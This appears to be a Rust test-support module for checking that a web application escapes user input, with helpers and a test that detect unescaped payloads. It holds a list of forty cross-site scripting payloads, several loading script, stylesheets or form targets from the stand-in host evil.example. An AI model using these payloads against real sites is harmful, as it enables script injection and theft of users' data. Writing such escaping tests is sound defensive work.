//! Forty ways to smuggle a script in.

use crate::support::forms::escaped;

/// Each would set `window.xss` if it ran, or raise a dialog.
pub const PAYLOADS: [&str; 40] = [
    "<script>window.xss=1</script>",
    "</script><script>window.xss=1</script>",
    "<ScRiPt>window.xss=1</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<script/src=data:,window.xss=1></script>",
    "<img src=x onerror=window.xss=1>",
    "<img src=x onerror=\"alert(1)\">",
    "<img/src/onerror=alert(1)>",
    "\"><img src=x onerror=window.xss=1>",
    "'><img src=x onerror=window.xss=1>",
    "\" onfocus=window.xss=1 autofocus x=\"",
    "' onfocus=window.xss=1 autofocus x='",
    "\" onmouseover=alert(1) style=\"position:fixed;inset:0\" x=\"",
    "<svg onload=window.xss=1>",
    "<svg/onload=alert(1)>",
    "<svg><script>window.xss=1</script></svg>",
    "<svg><animate onbegin=window.xss=1 attributeName=x dur=1s>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=window.xss=1>",
    "<iframe src=javascript:window.parent.xss=1></iframe>",
    "<iframe srcdoc=\"<script>parent.xss=1</script>\"></iframe>",
    "<object data=javascript:window.xss=1></object>",
    "<embed src=javascript:window.xss=1>",
    "<a href=javascript:window.xss=1 autofocus>x</a>",
    "javascript:window.xss=1//",
    "<body onload=window.xss=1>",
    "<details open ontoggle=window.xss=1>",
    "<video><source onerror=window.xss=1></video>",
    "<audio src=x onerror=window.xss=1>",
    "<input autofocus onfocus=window.xss=1>",
    "<select autofocus onfocus=window.xss=1>",
    "<textarea autofocus onfocus=window.xss=1></textarea>",
    "</textarea><script>window.xss=1</script>",
    "</title><script>window.xss=1</script>",
    "<meta http-equiv=refresh content=\"0;url=javascript:window.xss=1\">",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<form action=//evil.example><button>x</button></form>",
    "<!--><script>window.xss=1</script-->",
    "{{constructor.constructor('window.xss=1')()}}&lt;script&gt;&#60;b&#62;",
];

/// All of them, a line each.
pub fn in_lines() -> String {
    PAYLOADS.join("\r\n")
}

/// All of them on one line.
pub fn on_a_line() -> String {
    PAYLOADS.join(" ")
}

/// One after the other, for what may not be long.
pub fn short(n: usize) -> &'static str {
    PAYLOADS[n % PAYLOADS.len()]
}

/// Where a browser would go to what was typed, or run it.
const ADDRESSES: [&str; 4] =
    ["href=\"javascript:", "src=\"javascript:", "action=\"javascript:", "data=\"javascript:"];

/// What a page has that is no text: a payload as it was sent, or as an address to go to.
pub fn not_as_text(html: &str) -> Option<&'static str> {
    let is_markup = |payload: &&str| payload.contains(['<', '"', '\'']);
    let found = PAYLOADS.into_iter().filter(is_markup).find(|payload| html.contains(payload));
    found.or_else(|| ADDRESSES.into_iter().find(|at| html.contains(at)))
}

/// Is one of them on the page whole, as text? A long name may be cut short.
pub fn is_whole_in(html: &str) -> bool {
    PAYLOADS.iter().any(|payload| html.contains(&escaped(payload)))
}

#[test]
fn a_payload_as_it_was_sent_is_found_and_one_shown_as_text_is_not() {
    assert_eq!(PAYLOADS.len(), 40);
    assert!(not_as_text("<p>a <svg/onload=alert(1)> b</p>").is_some());
    assert!(not_as_text("<a href=\"javascript:window.xss=1//\">a</a>").is_some());
    let shown = "<input value=\"javascript:window.xss=1//\"><p>javascript:window.xss=1// &#60;svg/onload=alert(1)&#62;</p>";
    assert_eq!(not_as_text(shown), None);
    assert!(is_whole_in(shown) && !is_whole_in("<p>&#60;svg/onlo…</p>"));
}
